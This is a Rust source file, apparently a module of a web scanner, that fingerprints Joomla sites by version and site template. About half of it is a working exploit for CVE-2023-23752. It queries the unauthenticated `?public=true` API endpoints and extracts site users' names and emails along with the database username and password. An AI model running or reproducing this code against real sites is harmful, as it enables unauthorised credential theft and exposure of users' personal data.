//! Joomla：版本、站点模板、CVE-2023-23752 未授权信息泄露

use std::collections::BTreeSet;

use async_trait::async_trait;
use once_cell::sync::Lazy;
use regex::Regex;
use serde_json::{json, Map, Value};
use tracing::debug;

use crate::error::RwsResult;
use crate::extractor::HtmlExtractor;
use crate::http::HttpResponse;
use crate::modules::{InfoModule, ScanContext};

static VERSION_REGEX: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?is)<version>\s*([^<]+?)\s*</version>").unwrap());

const TEMPLATE_PREFIX: &str = "/media/templates/site/";

/// 清单文件中的版本号
pub fn manifest_version(xml: &str) -> Option<String> {
    VERSION_REGEX.captures(xml).map(|caps| caps[1].to_string())
}

/// 站点模板名（来自 /media/templates/site/<name>/ 下的资源）
pub fn templates<'a>(references: impl IntoIterator<Item = &'a String>) -> Vec<String> {
    references
        .into_iter()
        .filter_map(|href| href.strip_prefix(TEMPLATE_PREFIX))
        .filter_map(|rest| rest.split('/').next())
        .filter(|name| !name.is_empty())
        .map(str::to_string)
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect()
}

/// `/api/index.php/v1/users` 响应中的用户
pub fn api_users(data: &Value) -> Vec<Value> {
    data["data"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|element| {
            let attributes = &element["attributes"];
            json!({
                "id": attributes["id"],
                "username": attributes["username"],
                "email": attributes["email"],
            })
        })
        .collect()
}

/// `/api/index.php/v1/config/application` 响应中的数据库凭据
pub fn api_credentials(data: &Value) -> Map<String, Value> {
    let mut credentials = Map::new();
    for element in data["data"].as_array().into_iter().flatten() {
        let attributes = &element["attributes"];
        if let Some(user) = attributes.get("user") {
            credentials.insert("username".to_string(), user.clone());
        }
        if let Some(password) = attributes.get("password") {
            credentials.insert("password".to_string(), password.clone());
        }
    }
    credentials
}

pub struct Joomla;

impl Joomla {
    async fn fetch(ctx: &ScanContext, path: &str) -> Option<HttpResponse> {
        let url = ctx.resolve(path).ok()?;
        match ctx.executor.get(url.as_str()).await {
            Ok(response) if response.status == 200 => Some(response),
            Ok(_) => None,
            Err(e) => {
                debug!("Joomla 请求失败：{}，错误：{}", url, e);
                None
            }
        }
    }

    async fn fetch_json(ctx: &ScanContext, path: &str) -> Option<Value> {
        let response = Self::fetch(ctx, path).await?;
        match serde_json::from_slice(&response.body) {
            Ok(value) => Some(value),
            Err(e) => {
                debug!("Joomla 接口返回非JSON：{}，错误：{}", path, e);
                None
            }
        }
    }
}

#[async_trait]
impl InfoModule for Joomla {
    fn name(&self) -> &str {
        "joomla"
    }

    fn technology(&self) -> Option<&str> {
        Some("Joomla")
    }

    async fn run(&self, ctx: &ScanContext) -> RwsResult<Option<Value>> {
        let response = ctx.executor.get(ctx.config.url.as_str()).await?;
        let document = HtmlExtractor::extract(&response.text_lossy());

        let (manifest, users, config) = tokio::join!(
            Self::fetch(ctx, "/administrator/manifests/files/joomla.xml"),
            Self::fetch_json(ctx, "/api/index.php/v1/users?public=true"),
            Self::fetch_json(ctx, "/api/index.php/v1/config/application?public=true"),
        );

        let mut result = Map::new();
        if let Some(version) = manifest.and_then(|m| manifest_version(&m.text_lossy())) {
            result.insert("version".to_string(), Value::String(version));
        }

        let templates = templates(&document.resources);
        if !templates.is_empty() {
            result.insert("templates".to_string(), Value::from(templates));
        }

        let mut leak = Map::new();
        if let Some(users) = users {
            leak.insert("users".to_string(), Value::from(api_users(&users)));
        }
        if let Some(config) = config {
            leak.insert("config".to_string(), Value::Object(api_credentials(&config)));
        }
        if !leak.is_empty() {
            result.insert("cve-2023-23752".to_string(), Value::Object(leak));
        }

        Ok((!result.is_empty()).then_some(Value::Object(result)))
    }
}
